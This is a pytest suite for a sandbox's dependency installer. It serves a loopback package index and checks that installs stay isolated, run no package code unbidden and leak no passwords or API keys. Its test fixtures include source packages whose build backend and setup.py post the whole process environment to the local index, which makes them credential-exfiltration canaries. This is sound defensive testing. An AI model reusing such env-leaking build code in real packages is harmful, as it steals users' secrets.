"""A case's dependencies on every backend, from a package index of the tests' own on this machine's loopback."""

from __future__ import annotations

import asyncio
import contextlib
import errno
import fcntl
import hashlib
import http.server
import io
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tarfile
import threading
import time
import uuid
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tests.sandbox.conftest import KINDS, eventually, sandbox_of
from tests.sandbox.test_life import descendants
from viva.sandbox import DependencyError, Ending, RunView, SandboxError
from viva.sandbox.docker import ownership
from viva.sandbox.docker.backend import DockerSandbox
from viva.sandbox.docker.daemon import Daemon
from viva.sandbox.docker.images import REPOSITORY
from viva.sandbox.docker.leftovers import prune
from viva.sandbox.packages import cache_folder, only_one
from viva.sandbox.site_folder import sweep

pytestmark = pytest.mark.asyncio(loop_scope="session")
INSTALLERS = ("docker", "process", pytest.param("bwrap", marks=pytest.mark.soak))
"""Bubblewrap has its packages from the same `site_folder` as processes: only the soak installs for it again."""


def wheel(name: str, version: str, needs: str = "") -> bytes:
    """A wheel with one module that knows its version."""
    buffer = io.BytesIO()
    info = f"{name}-{version}.dist-info"
    metadata = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n" + (
        f"Requires-Dist: {needs}\n" if needs else ""
    )
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(f"{name}.py", f"version = {version!r}\n")
        archive.writestr(f"{info}/METADATA", metadata)
        archive.writestr(
            f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        archive.writestr(f"{info}/RECORD", "")
    return buffer.getvalue()


BACKEND = """
import json, os, urllib.request, zipfile
NAME = "{name}"
def tell():
    known = json.dumps(dict(os.environ)).encode()
    urllib.request.urlopen(urllib.request.Request("http://{address}/built", known), timeout=5).read()
def build_wheel(folder, settings=None, metadata=None):
    tell()
    info = NAME + "-1.0.dist-info"
    with zipfile.ZipFile(folder + "/" + NAME + "-1.0-py3-none-any.whl", "w") as archive:
        archive.writestr(NAME + ".py", "version = '1.0'")
        archive.writestr(info + "/METADATA", "Metadata-Version: 2.1\\nName: " + NAME + "\\nVersion: 1.0\\n")
        archive.writestr(info + "/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        archive.writestr(info + "/RECORD", "")
    return NAME + "-1.0-py3-none-any.whl"
"""


def source(name: str, address: str) -> bytes:
    """A source archive whose build tells the index that it ran, and what it found in its environment."""
    files = {
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
        "backend.py": BACKEND.format(name=name, address=address),
        "setup.py": f"import urllib.request\nurllib.request.urlopen('http://{address}/built', b'').read()\n",
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
    }
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for path, text in files.items():
            entry = tarfile.TarInfo(f"{name}-1.0/{path}")
            entry.size = len(text.encode())
            archive.addfile(entry, io.BytesIO(text.encode()))
    return buffer.getvalue()


@dataclass
class Index:
    """A package index in PEP 503's form, behind a user name and a password."""

    name: str = field(default_factory=lambda: "viva" + uuid.uuid4().hex[:8])
    password: str = field(default_factory=lambda: "pw" + uuid.uuid4().hex)
    asked: list[str] = field(default_factory=list)
    hangs: list[str] = field(default_factory=list)
    """Packages for which no answer comes."""
    built: list[str] = field(default_factory=list)
    """What builds of source packages sent: their environments."""
    host: str = "127.0.0.1"
    is_open: bool = False
    """Whether it asks for no password."""
    port: int = 0

    @property
    def address(self) -> str:
        return f"{self.host}:{self.port}"

    @property
    def url(self) -> str:
        return f"http://user:{self.password}@{self.address}/simple"

    def files(self) -> dict[str, bytes]:
        other = self.name + "other"
        return {
            f"{self.name}-1.0-py3-none-any.whl": wheel(self.name, "1.0", f"{other}>=2"),
            f"{self.name}-3.0-py3-none-any.whl": wheel(self.name, "3.0"),
            f"{other}-2.0-py3-none-any.whl": wheel(other, "2.0"),
            f"{self.name}source-1.0.tar.gz": source(self.name + "source", self.address),
            f"{self.name}leads-1.0-py3-none-any.whl": wheel(
                self.name + "leads",
                "1.0",
                f"{self.name}hidden @ http://{self.address}/open/{self.name}hidden-1.0.tar.gz",
            ),
            f"{self.name}hidden-1.0.tar.gz": source(self.name + "hidden", self.address),
        }


@pytest.fixture(scope="session")
def index() -> Iterator[Index]:
    with served(Index()) as index:
        yield index


@contextlib.contextmanager
def served(index: Index) -> Iterator[Index]:
    files: dict[str, bytes] = {}

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            index.asked.append(self.path)
            leaf = self.path.rstrip("/").rpartition("/")[2]
            if leaf in index.hangs:
                time.sleep(60)
            if "Authorization" not in self.headers and not index.is_open and "/open/" not in self.path:
                self.send_response(401)
                self.send_header("WWW-Authenticate", "Basic")
                body = b""
            elif leaf in files:
                self.send_response(200)
                body = files[leaf]
            else:
                found = [name for name in files if name.split("-")[0] == leaf]
                self.send_response(200 if found else 404)
                links = (f'<a href="/f/{n}#sha256={hashlib.sha256(files[n]).hexdigest()}">{n}</a>' for n in found)
                body = "".join(links).encode()
                self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            with contextlib.suppress(ConnectionError):  # the installer was stopped
                self.wfile.write(body)

        def do_POST(self) -> None:
            index.built.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
            self.send_response(204)
            self.end_headers()

        def log_message(self, *arguments: object) -> None:
            return None

    server = http.server.ThreadingHTTPServer((index.host, 0), Handler)
    index.port = server.server_address[1]
    files.update(index.files())
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield index
    server.shutdown()
    server.server_close()


@pytest.fixture(autouse=True)
def settings(index: Index, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PIP_INDEX_URL", index.url)
    monkeypatch.setenv("PIP_RETRIES", "0")
    monkeypatch.delenv("PIP_FIND_LINKS", raising=False)


@pytest.mark.parametrize("kind", KINDS)
async def test_a_check_uses_its_dependencies_and_others_do_not_see_them(kind: str, index: Index) -> None:
    sandbox = await sandbox_of(kind)
    try:
        wanted = [f"{index.name} < 2", f"{index.name}other"]
        await sandbox.prepare(wanted)
        session = await sandbox.open(None, RunView(), dependencies=wanted)
        result = await session.check(
            f"import {index.name} as a, {index.name}other as b, subprocess\n"
            f"assert (a.version, b.version) == ('1.0', '2.0')\n"
            f"subprocess.run(['python3', '-c', 'import {index.name}'], check=True)"
        )
        assert result.ending is Ending.PASSED, result
        bare = await sandbox.open(None, RunView())
        result = await bare.check(f"import {index.name}")
        assert (result.ending, result.missing_module) == (Ending.BROKEN, index.name)
    finally:
        await sandbox.close()


@pytest.mark.parametrize("kind", INSTALLERS)
async def test_a_requirement_that_cannot_be_had_is_named_before_the_conversation(kind: str, index: Index) -> None:
    sandbox = await sandbox_of(kind)
    try:
        bad = (f"{index.name}==77", f"{index.name}missing", "not a requirement", "x @ file:///etc")
        for get, what in ((sandbox.prepare, bad[0]), *((sandbox.provide, each) for each in bad[1:])):
            with pytest.raises(DependencyError) as caught:
                await get([f"{index.name}other", what])
            assert caught.value.requirement == what
            assert index.password not in str(caught.value)
    finally:
        await sandbox.close()


@pytest.mark.parametrize("kind", INSTALLERS)
@pytest.mark.parametrize(
    "how", ["archive on the index", "needed by a wheel", "address", "archive here", "repository", "wheel"]
)
async def test_no_program_of_a_package_runs_while_it_is_installed(
    kind: str, how: str, index: Index, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "evil.tar.gz").write_bytes(source("evil", index.address))
    (tmp_path / f"{index.name}source.zip").write_bytes(source("evil", index.address))
    monkeypatch.chdir(tmp_path)
    wanted = {
        "archive on the index": f"{index.name}source",
        "needed by a wheel": f"{index.name}leads",
        "address": f"evil @ http://{index.address}/open/{index.name}hidden-1.0.tar.gz",
        "archive here": f"{index.name}source.zip",
        "repository": "evil @ git+https://127.0.0.1/evil",
        "wheel": f"{index.name}other @ http://{index.address}/open/{index.name}other-2.0-py3-none-any.whl",
    }[how]
    sandbox = await sandbox_of(kind)
    index.built.clear()
    try:
        with pytest.raises(DependencyError) as caught:
            await sandbox.provide([wanted])
    finally:
        await sandbox.close()
    assert index.built == [], "a program of the package's ran"
    assert "--allow-source-dependencies" in str(caught.value) or how == "archive here"
    assert index.password not in str(caught.value)


@pytest.mark.parametrize("kind", INSTALLERS)
async def test_a_source_package_that_the_user_allows_is_built_without_any_secret(
    kind: str, index: Index, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret")
    monkeypatch.setenv("https_proxy", f"http://me:{index.password}@proxy.invalid:9")
    with served(Index(host=address_for_containers() if kind == "docker" else "127.0.0.1", is_open=True)) as other:
        monkeypatch.setenv("PIP_INDEX_URL", f"http://user:{index.password}@{other.address}/simple")
        monkeypatch.setenv("PIP_TRUSTED_HOST", other.host)
        modules = [f"{other.name}source", f"{other.name}hidden"]
        wanted = [modules[0], f"{modules[1]} @ http://{other.address}/{modules[1]}-1.0.tar.gz"]
        sandbox = await sandbox_of(kind, allow_source=True)
        try:
            session = await sandbox.open(None, RunView(), dependencies=wanted)
            for module in modules:
                result = await session.check(f"import {module}\nassert {module}.version == '1.0'")
                assert result.ending is Ending.PASSED, result
        finally:
            await sandbox.close()
        assert other.built, "else nothing was built"
        assert index.password not in repr(other.built)
        assert "sk-secret" not in repr(other.built)


async def test_a_build_in_a_container_is_not_let_near_the_loopback(index: Index) -> None:
    sandbox = await sandbox_of("docker", allow_source=True)
    try:
        with pytest.raises(DependencyError, match="loopback"):
            await sandbox.provide([f"{index.name}source"])
    finally:
        await sandbox.close()


def address_for_containers() -> str:
    """An address of this machine's that a container on the default network reaches."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        try:
            asking.connect(("192.0.2.1", 9))  # sends nothing
        except OSError:
            pytest.skip("this machine has no address but its loopback")
        return str(asking.getsockname()[0])


@pytest.mark.parametrize("kind", INSTALLERS)
async def test_however_many_ask_at_once_it_is_installed_once(kind: str, index: Index) -> None:
    sandboxes = [await sandbox_of(kind) for _ in range(3)]
    wanted = [f"{index.name}>=3,<{10 + KINDS.index(kind)}"]
    index.asked.clear()
    try:
        await asyncio.gather(*(sandbox.prepare(wanted) for sandbox in sandboxes for _ in range(3)))
        assert sum(path.endswith("3.0-py3-none-any.whl") for path in index.asked) <= 2  # 401, then 200
        index.asked.clear()
        again = await sandbox_of(kind)
        await again.prepare(wanted)
        assert index.asked == []
        await again.close()
    finally:
        for sandbox in sandboxes:
            await sandbox.close()


async def test_an_image_keeps_no_password_and_says_whose_it_is(index: Index) -> None:
    await (await sandbox_of("docker")).close()
    sandbox = DockerSandbox(Daemon())
    daemon = sandbox.daemon
    try:
        image = await sandbox.environment([f"{index.name}other==2"])
        details = await daemon.call("inspect_image", image)
        history = await daemon.call("history", image)
        assert index.password not in json.dumps([details, history])
        labels = details["Config"]["Labels"]
        assert labels[ownership.image_key(ownership.KIND)] == "dependencies"
        assert labels[ownership.image_key(ownership.PID)] == ownership.labels("session")[ownership.PID]
        assert not ownership.is_ours(labels), "a stranger's container made from it would inherit them"
        session = await sandbox.open(None, RunView(), dependencies=[f"{index.name}other==2"])
        look = (
            f"import subprocess\nsought = ['grep', '-rsl', '{index.password}', '/opt', '/etc', '/root', '/var']\n"
            "assert not subprocess.run(sought, capture_output=True).stdout"
        )
        assert (await session.check(look)).ending is Ending.PASSED
        builders = await daemon.call("containers", all=True, filters={"label": f"{ownership.KIND}=builder"})
        assert not [one for one in builders if one["Labels"][ownership.PID] == labels[ownership.PID]]
    finally:
        await sandbox.close()


@pytest.mark.parametrize("prepared", [True, False])
async def test_an_image_that_was_removed_meanwhile_is_made_again(index: Index, prepared: bool) -> None:
    await (await sandbox_of("docker")).close()
    sandbox = DockerSandbox(Daemon())
    wanted = [f"{index.name}other~=2.0"]
    try:
        image = await sandbox.environment(wanted)
        await sandbox.daemon.call("remove_image", image, force=True)
        if prepared:
            await sandbox.prepare(wanted)
        session = await sandbox.open(None, RunView(), dependencies=wanted)
        assert (await session.check(f"import {index.name}other")).ending is Ending.PASSED
    finally:
        await sandbox.close()


async def test_pruning_keeps_images_of_the_living(index: Index) -> None:
    await (await sandbox_of("docker")).close()
    sandbox = DockerSandbox(Daemon())
    try:
        image = await sandbox.environment([f"{index.name}other>=1"])
        pruned = await prune(sandbox.daemon, images=True)
        names = (await sandbox.daemon.call("inspect_image", image))["RepoTags"]
        assert names[0].startswith(REPOSITORY)
        assert not set(names) & set(pruned.images)
    finally:
        await sandbox.close()


async def test_without_dependencies_nothing_is_installed(index: Index) -> None:
    for kind in KINDS:
        sandbox = await sandbox_of(kind)
        index.asked.clear()
        await sandbox.prepare([])
        assert index.asked == []
        await sandbox.close()


SLOW = """
import asyncio, sys
from viva.sandbox.site_folder import site_folder
asyncio.run(site_folder([sys.argv[1]], sys.executable))
"""


def install_slowly(name: str) -> subprocess.Popen[bytes]:
    return subprocess.Popen([sys.executable, "-c", SLOW, name], cwd=Path(__file__).parents[2])


@pytest.mark.parametrize("how", [signal.SIGKILL, signal.SIGTERM])
async def test_an_installation_whose_harness_is_killed_leaves_no_pip_and_no_folder(
    index: Index, how: signal.Signals
) -> None:
    name = f"viva{uuid.uuid4().hex[:8]}slow"
    index.hangs.append(name)
    harness = install_slowly(name)
    await eventually(lambda: asyncio.to_thread(lambda: any(name in path for path in index.asked)))
    running = descendants(harness.pid)
    assert len(running) >= 2, "pip and who watches it"
    harness.send_signal(how)
    await asyncio.to_thread(harness.wait)

    async def all_gone() -> bool:
        return not any(ownership.start_of(pid) for pid in running) and not list(cache_folder("site").glob(".making-*"))

    await eventually(all_gone)


async def test_what_an_installation_left_is_swept_unless_it_still_runs(index: Index) -> None:
    folder = cache_folder("site")
    dead, living = (folder / f".making-{uuid.uuid4().hex[:24]}-x" for _ in range(2))
    for one in (dead, living):
        (one / "site").mkdir(parents=True)
    try:
        async with only_one(living.name.split("-")[1]):
            sweep()
            assert (dead.exists(), living.exists()) == (False, True)
        sweep()
        assert not living.exists()
    finally:
        for one in (dead, living):
            shutil.rmtree(one, ignore_errors=True)


@pytest.mark.parametrize("number", [errno.ENOLCK, errno.ENOSYS, errno.EIO])
async def test_where_locks_fail_the_error_names_the_folder_and_what_to_do(
    number: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without one, a process could sweep away what another one installs."""
    leftover = cache_folder("site") / f".making-{uuid.uuid4().hex[:24]}-x"
    leftover.mkdir()
    try:

        def refuse(*_: object) -> None:
            raise OSError(number, os.strerror(number))

        monkeypatch.setattr(fcntl, "flock", refuse)
        with pytest.raises(SandboxError, match=r"locks.*(without|cannot be) lock.*XDG_CACHE_HOME"):
            async with only_one(leftover.name.split("-")[1]):
                pass
        assert leftover.name not in sweep()
    finally:
        shutil.rmtree(leftover, ignore_errors=True)
